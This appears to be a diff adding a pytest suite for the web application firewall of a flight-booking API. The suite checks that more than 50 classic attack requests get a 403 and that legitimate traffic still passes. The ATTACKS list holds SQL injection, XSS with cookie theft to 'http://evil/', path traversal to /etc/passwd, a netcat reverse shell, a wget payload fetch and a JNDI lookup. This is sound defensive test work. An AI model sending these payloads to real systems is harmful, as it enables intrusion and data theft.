@@ -1,0 +1,238 @@
+"""The firewall tier: classic attacks get 403 and never reach an app server; lastseat's own
+traffic passes untouched; limits per client address; a deny list; a body size limit."""
+
+from __future__ import annotations
+
+import asyncio
+import uuid
+from typing import Any
+
+import httpx
+
+from tests.stack.conftest import Site
+from tests.stack.test_1_path import eventually_in
+from tests.support.flights import flight_body
+
+F = "/api/v1/flights"
+LOGIN = "/api/v1/auth/login"
+SIGNUP = "/api/v1/auth/signup"
+HOLDS = "/api/v1/holds"
+
+# (family, method, path, JSON body or None, extra headers)
+ATTACKS: list[tuple[str, str, str, Any, dict[str, str]]] = [
+    # SQL injection, in the query string
+    ("sqli", "GET", F + "?origin=' OR 1=1--", None, {}),
+    ("sqli", "GET", F + "?origin=1 UNION SELECT password FROM users", None, {}),
+    ("sqli", "GET", F + "?destination=1; DROP TABLE users--", None, {}),
+    ("sqli", "GET", F + "?origin=admin'--", None, {}),
+    ("sqli", "GET", F + "?origin=1' AND SLEEP(5)--", None, {}),
+    ("sqli", "GET", F + "?origin=' UNION ALL SELECT NULL,NULL--", None, {}),
+    ("sqli", "GET", F + "?q=1' WAITFOR DELAY '0:0:5'--", None, {}),
+    ("sqli", "GET", F + "?origin=1 AND (SELECT 1 FROM pg_sleep(5))", None, {}),
+    ("sqli", "GET", F + "?id=1;SELECT pg_sleep(10)", None, {}),
+    ("sqli", "GET", F + "?date=2030-01-01' or '1'='1", None, {}),
+    # SQL injection, in JSON bodies
+    ("sqli", "POST", LOGIN, {"email": "' OR '1'='1' --", "password": "x"}, {}),
+    ("sqli", "POST", LOGIN, {"email": "a@b.c' UNION SELECT * FROM users--", "password": "x"}, {}),
+    ("sqli", "POST", HOLDS, {"flight_id": 1, "seats": ["1A' OR 1=1--"]}, {}),
+    ("sqli", "POST", "/api/v1/admin/discounts", {"code": "X'; DROP TABLE discount_codes;--"}, {}),
+    (
+        "sqli",
+        "POST",
+        SIGNUP,
+        {"email": "x@y.z' AND 1=(SELECT COUNT(*) FROM users)--", "password": "p"},
+        {},
+    ),
+    ("sqli", "GET", F, None, {"Cookie": "lastseat_session=' OR 1=1--"}),
+    # cross-site scripting
+    ("xss", "GET", F + "?origin=<script>alert(1)</script>", None, {}),
+    ("xss", "GET", F + "?q=<img src=x onerror=alert(1)>", None, {}),
+    ("xss", "GET", F + "?q=javascript:alert(document.cookie)", None, {}),
+    ("xss", "GET", F + "?q=<svg/onload=alert(1)>", None, {}),
+    ("xss", "GET", F + "?q=<iframe src=javascript:alert(1)>", None, {}),
+    (
+        "xss",
+        "GET",
+        F + "?q=\"><script>document.location='http://evil/'+document.cookie</script>",
+        None,
+        {},
+    ),
+    ("xss", "POST", SIGNUP, {"email": "<script>alert(1)</script>@x.io", "password": "p"}, {}),
+    ("xss", "GET", F, None, {"Referer": "<script>alert(1)</script>"}),
+    ("xss", "GET", F + "?q=<body onload=alert('x')>", None, {}),
+    # path traversal and restricted files
+    ("lfi", "GET", "/api/v1/%2e%2e/%2e%2e/etc/passwd", None, {}),
+    ("lfi", "GET", F + "?file=../../../../etc/passwd", None, {}),
+    ("lfi", "GET", F + "?file=..%2f..%2f..%2fetc%2fshadow", None, {}),
+    ("lfi", "GET", F + "?file=/etc/passwd", None, {}),
+    ("lfi", "GET", F + "?path=..\\..\\..\\windows\\win.ini", None, {}),
+    ("lfi", "GET", "/.env", None, {}),
+    ("lfi", "GET", "/.git/config", None, {}),
+    ("lfi", "GET", "/.htaccess", None, {}),
+    # remote command execution
+    ("rce", "GET", F + "?cmd=;cat /etc/passwd", None, {}),
+    ("rce", "GET", F + "?q=$(whoami)", None, {}),
+    ("rce", "GET", F + "?q=| nc -e /bin/sh 10.0.0.1 4444", None, {}),
+    ("rce", "GET", F + "?q=;wget http://evil.example/x.sh", None, {}),
+    ("rce", "POST", LOGIN, {"email": "a@b.c; /bin/bash -i", "password": "x"}, {}),
+    ("rce", "GET", F + "?q=${jndi:ldap://evil.example/a}", None, {}),
+    ("rce", "GET", F + "?q=powershell.exe -nop -w hidden -c iex", None, {}),
+    # scanners
+    ("scanner", "GET", F, None, {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
+    ("scanner", "GET", F, None, {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"}),
+    ("scanner", "GET", F, None, {"User-Agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine)"}),
+    (
+        "scanner",
+        "GET",
+        F,
+        None,
+        {"User-Agent": "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"},
+    ),
+    (
+        "scanner",
+        "GET",
+        F,
+        None,
+        {"User-Agent": "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"},
+    ),
+    ("scanner", "GET", F, None, {"User-Agent": "dirbuster"}),
+    # PHP, remote file inclusion, Node.js, session fixation, response splitting
+    ("php", "GET", F + "?q=<?php system($_GET['c']); ?>", None, {}),
+    ("php", "GET", F + "?file=php://filter/convert.base64-encode/resource=index.php", None, {}),
+    ("rfi", "GET", F + "?url=http://1.2.3.4/evil.txt", None, {}),
+    ("rfi", "GET", F + "?page=http://evil.example/shell.txt?", None, {}),
+    ("nodejs", "GET", F + "?q=require('child_process').exec('id')", None, {}),
+    ("fixation", "GET", F + '?q=<meta http-equiv="Set-Cookie" content="sid=1">', None, {}),
+    ("splitting", "GET", F + "?q=%0d%0aSet-Cookie:%20sid=1", None, {}),
+]
+
+
+async def test_classic_attacks_are_blocked_before_any_app_server(site: Site) -> None:
+    assert len(ATTACKS) >= 50
+    run = uuid.uuid4().hex[:8]
+    passed = []
+    async with site.client() as client:
+        for index, (family, method, path, body, headers) in enumerate(ATTACKS):
+            request_id = f"attack-{run}-{index}"
+            response = await client.request(
+                method, path, json=body, headers={**headers, "X-Request-ID": request_id}
+            )
+            if response.status_code != 403:
+                passed.append((family, path, body, headers, response.status_code))
+                continue
+            assert response.headers["content-type"] == "application/problem+json"
+            assert response.json()["type"] == "urn:lastseat:problem:firewall-blocked"
+            assert response.headers["x-request-id"] == request_id
+        marker = f"after-attacks-{run}"
+        assert (await client.get(F, headers={"X-Request-ID": marker})).status_code == 200
+    assert not passed, f"not blocked: {passed}"
+    await eventually_in(site, "app", marker)  # the app log is written up to this request
+    assert f"attack-{run}" not in site.log("app")
+    assert f"attack-{run}" in site.log("firewall")
+
+
+async def test_lastseat_own_traffic_passes_untouched(site: Site) -> None:
+    """Bodies a legitimate client sends, with awkward but valid values: no false positive."""
+    made = site.lastseat("admin", "create-user", "waf-admin@example.com", "--password",
+                         "admin password 1", "--admin")  # fmt: skip
+    assert made.returncode == 0, made.stderr
+    async with site.client() as client:
+        password = 'it\'s "quoted" -- or 1=1; select'  # people pick passwords like this
+        signup = await client.post(
+            SIGNUP, json={"email": "o'brien@example.com", "password": password}
+        )
+        assert signup.status_code == 201, signup.text
+        login = await client.post(
+            LOGIN, json={"email": "o'brien@example.com", "password": password}
+        )
+        assert login.status_code == 200, login.text
+        ann = {"Authorization": f"Bearer {login.json()['access_token']}"}
+        admin_login = await client.post(
+            LOGIN, json={"email": "waf-admin@example.com", "password": "admin password 1"}
+        )
+        admin = {"Authorization": f"Bearer {admin_login.json()['access_token']}"}
+        flight = await client.post(
+            "/api/v1/admin/flights",
+            json=flight_body(departs_at="2031-03-01T08:30:00Z", code="LS777"),
+            headers=admin,
+        )
+        assert flight.status_code == 201, flight.text
+        flight_id = flight.json()["id"]
+        code = await client.post(
+            "/api/v1/admin/discounts",
+            json={"code": "SPRING-25", "kind": "percent", "value": 2500, "max_redemptions": 10},
+            headers=admin,
+        )
+        assert code.status_code == 201, code.text
+        checks = [
+            await client.get(
+                F, params={"origin": "LHR", "destination": "JFK", "date": "2031-03-01"}
+            ),
+            await client.get(f"{F}/{flight_id}/seats"),
+            await client.get("/api/v1/me", headers=ann),
+            await client.get("/api/v1/config"),
+        ]
+        hold = await client.post(
+            HOLDS, json={"flight_id": flight_id, "seats": ["12A", "12B"]},
+            headers={**ann, "Idempotency-Key": "waf-hold-1"},
+        )  # fmt: skip
+        assert hold.status_code == 201, hold.text
+        hold_id = hold.json()["id"]
+        checks.append(
+            await client.get(f"/api/v1/holds/{hold_id}/quote?discount_code=SPRING-25", headers=ann)
+        )
+        checks.append(
+            await client.get(f"/api/v1/holds/{hold_id}/quote?discount_code=NOPE", headers=ann)
+        )
+        booking = await client.post(
+            "/api/v1/bookings",
+            json={"hold_id": hold_id, "discount_code": "SPRING-25", "payment": {"token": "tok_ok"}},
+            headers={**ann, "Idempotency-Key": "waf-book-1"},
+        )
+        assert booking.status_code == 201, booking.text
+        checks.append(
+            await client.post(f"/api/v1/bookings/{booking.json()['id']}/cancel", headers=ann)
+        )
+        checks.append(
+            await client.get(f"/api/v1/admin/flights/{flight_id}/manifest", headers=admin)
+        )
+        checks.append(
+            await client.post(
+                "/api/v1/me/password",
+                json={"current_password": password, "new_password": "new pass; drop <b>bold</b>"},
+                headers=ann,
+            )
+        )
+        for response in checks:
+            assert response.status_code < 400, (response.request.url, response.text)
+
+
+async def test_a_burst_from_one_address_is_limited_while_another_is_served(site: Site) -> None:
+    async with (
+        site.client(local_address="127.0.0.2") as noisy,
+        site.client(local_address="127.0.0.3") as calm,
+    ):
+        limit = asyncio.Semaphore(64)
+
+        async def one() -> httpx.Response:
+            async with limit:
+                return await noisy.get(F)
+
+        statuses = [r.status_code for r in await asyncio.gather(*(one() for _ in range(800)))]
+        served_meanwhile = await calm.get(F)
+        limited = [r for r in statuses if r == 429]
+    assert limited, "no 429 in a burst of 800"
+    assert set(statuses) <= {200, 429}
+    assert served_meanwhile.status_code == 200
+
+
+async def test_denied_addresses_and_oversized_bodies_are_refused(site: Site) -> None:
+    async with site.client(local_address="127.0.0.66") as denied:
+        response = await denied.get(F)
+        assert response.status_code == 403
+        assert response.headers["content-type"] == "application/problem+json"
+    async with site.client() as client:
+        big = await client.post(SIGNUP, content=b"{" + b" " * 200_000 + b"}",
+                                headers={"Content-Type": "application/json"})  # fmt: skip
+        assert big.status_code == 413
+        assert big.json()["type"] == "urn:lastseat:problem:payload-too-large"
